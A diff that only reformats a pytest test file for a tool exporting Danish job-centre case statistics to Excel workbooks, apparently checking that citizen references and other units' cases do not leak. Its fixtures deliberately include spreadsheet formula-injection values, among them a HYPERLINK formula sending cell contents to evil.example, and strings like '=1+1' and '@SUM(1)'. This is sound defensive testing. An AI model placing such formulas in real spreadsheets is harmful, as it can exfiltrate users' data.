@@ -40,51 +40,97 @@ def ref_forms(ref: str) -> set[bytes]:
     return {ref.encode(), digits.encode(), f"{digits[:6]}-{digits[6:]}".encode()}
 
 
-UNITS = [("JC-NORD", "Jobcenter Nord", "jobcenter"), ("JC-SYD", "=2+2", "jobcenter"),
-         ("YS", "+Ydelsesservice", "ydelsesservice")]
+UNITS = [
+    ("JC-NORD", "Jobcenter Nord", "jobcenter"),
+    ("JC-SYD", "=2+2", "jobcenter"),
+    ("YS", "+Ydelsesservice", "ydelsesservice"),
+]
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'
 # (case number, unit, late?)
 CASES = [
-    ("SAG-N-01", "JC-NORD", False), ("SAG-N-02", "JC-NORD", True), (HYPERLINK, "JC-NORD", True),
+    ("SAG-N-01", "JC-NORD", False),
+    ("SAG-N-02", "JC-NORD", True),
+    (HYPERLINK, "JC-NORD", True),
     ("+1", "JC-NORD", True),
-    ("SAG-S-01", "JC-SYD", True), ("-1", "JC-SYD", True), ("@SUM(1)", "JC-SYD", True),
+    ("SAG-S-01", "JC-SYD", True),
+    ("-1", "JC-SYD", True),
+    ("@SUM(1)", "JC-SYD", True),
     ("SAG-S-02", "JC-SYD", False),
-    ("SAG-Y-01", "YS", True), ("=1+1", "YS", True),
+    ("SAG-Y-01", "YS", True),
+    ("=1+1", "YS", True),
 ]
 INJECTIONS = {HYPERLINK, "+1", "-1", "@SUM(1)", "=1+1", "=2+2", "+Ydelsesservice"}
 CASE_UNIT = {case: unit for case, unit, _ in CASES}
 LATE = {code: {c for c, u, late in CASES if u == code and late} for code, _, _ in UNITS}
 # Text of each unit's cases that cannot occur by chance in another unit's workbook XML.
-MARKS = {code: {c.encode() for c, u, _ in CASES if u == code and c.startswith("SAG-")}
-         for code, _, _ in UNITS}
+MARKS = {
+    code: {c.encode() for c, u, _ in CASES if u == code and c.startswith("SAG-")} for code, _, _ in UNITS
+}
 MARKS["JC-NORD"] |= {b"evil.example", b"HYPERLINK"}
 MARKS["JC-SYD"] |= {b"@SUM(1)"}
 
 
 def decisions() -> list[dict[str, object]]:
-    return [{"decision_id": i, "case_id": case, "citizen_ref": REFS[i % len(REFS)],
-             "unit_code": unit, "case_area_code": "KH-ANS", "received_date": "2025-04-01",
-             "decided_date": "2025-05-01" if late else "2025-04-10",
-             "sent_date": "2025-05-01" if late else "2025-04-10", "delay_notice_date": None}
-            for i, (case, unit, late) in enumerate(CASES, start=1)]
+    return [
+        {
+            "decision_id": i,
+            "case_id": case,
+            "citizen_ref": REFS[i % len(REFS)],
+            "unit_code": unit,
+            "case_area_code": "KH-ANS",
+            "received_date": "2025-04-01",
+            "decided_date": "2025-05-01" if late else "2025-04-10",
+            "sent_date": "2025-05-01" if late else "2025-04-10",
+            "delay_notice_date": None,
+        }
+        for i, (case, unit, late) in enumerate(CASES, start=1)
+    ]
 
 
 def complaints() -> list[dict[str, object]]:
-    return [{"complaint_id": i, "case_id": f"KLAGE-{i}", "citizen_ref": REFS[i % len(REFS)],
-             "unit_code": unit, "complaint_kind": kind, "via_ombudsman": 0,
-             "insured_unemployed": 0, "five_day_rule": 0, "received_date": "2025-04-02",
-             "answered_date": "2025-04-20", "outcome": "upheld"}
-            for i, (unit, kind) in enumerate([("JC-NORD", "decision"), ("JC-SYD", "handling"),
-                                              ("YS", "decision")], start=1)]
+    return [
+        {
+            "complaint_id": i,
+            "case_id": f"KLAGE-{i}",
+            "citizen_ref": REFS[i % len(REFS)],
+            "unit_code": unit,
+            "complaint_kind": kind,
+            "via_ombudsman": 0,
+            "insured_unemployed": 0,
+            "five_day_rule": 0,
+            "received_date": "2025-04-02",
+            "answered_date": "2025-04-20",
+            "outcome": "upheld",
+        }
+        for i, (unit, kind) in enumerate(
+            [("JC-NORD", "decision"), ("JC-SYD", "handling"), ("YS", "decision")], start=1
+        )
+    ]
 
 
 @pytest.fixture
 def run(make_db: Callable[..., str], config_dir: Path, tmp_path: Path) -> tuple[Path, str]:
     db = make_db(units=UNITS, decisions=decisions(), complaints=complaints())
     out = tmp_path / "out"
-    result = CliRunner().invoke(cli, ["run", "--db", db, "--config", str(config_dir), "--from",
-                                      "2025-04-01", "--to", "2025-06-30", "--out", str(out),
-                                      "--workers", "2"], catch_exceptions=False)
+    result = CliRunner().invoke(
+        cli,
+        [
+            "run",
+            "--db",
+            db,
+            "--config",
+            str(config_dir),
+            "--from",
+            "2025-04-01",
+            "--to",
+            "2025-06-30",
+            "--out",
+            str(out),
+            "--workers",
+            "2",
+        ],
+        catch_exceptions=False,
+    )
     assert result.exit_code == 0, result.output
     return out, result.output
 
@@ -106,8 +152,14 @@ def all_parts(out: Path) -> list[tuple[str, bytes]]:
 def test_no_citizen_reference_in_any_output(run: tuple[Path, str]) -> None:
     out, output = run
     files = sorted(p.name for p in out.rglob("*"))
-    assert files == ["enhed-JC-NORD.xlsx", "enhed-JC-SYD.xlsx", "enhed-YS.xlsx", "manifest.json",
-                     "results.json", "udvalg.xlsx"]
+    assert files == [
+        "enhed-JC-NORD.xlsx",
+        "enhed-JC-SYD.xlsx",
+        "enhed-YS.xlsx",
+        "manifest.json",
+        "results.json",
+        "udvalg.xlsx",
+    ]
     scanned = all_parts(out)
     assert len(scanned) > 20  # the XML parts of four workbooks, results.json and manifest.json
     for ref in REFS:
@@ -135,7 +187,7 @@ def case_rows(path: Path) -> list[str]:
     rows = list(sheet.iter_rows())
     header = next(i for i, row in enumerate(rows) if row[0].value == heading)
     cases = []
-    for row in rows[header + 1:]:
+    for row in rows[header + 1 :]:
         if row[0].value is None and all(c.value is None for c in row):
             break
         cases.append(row[0].value)
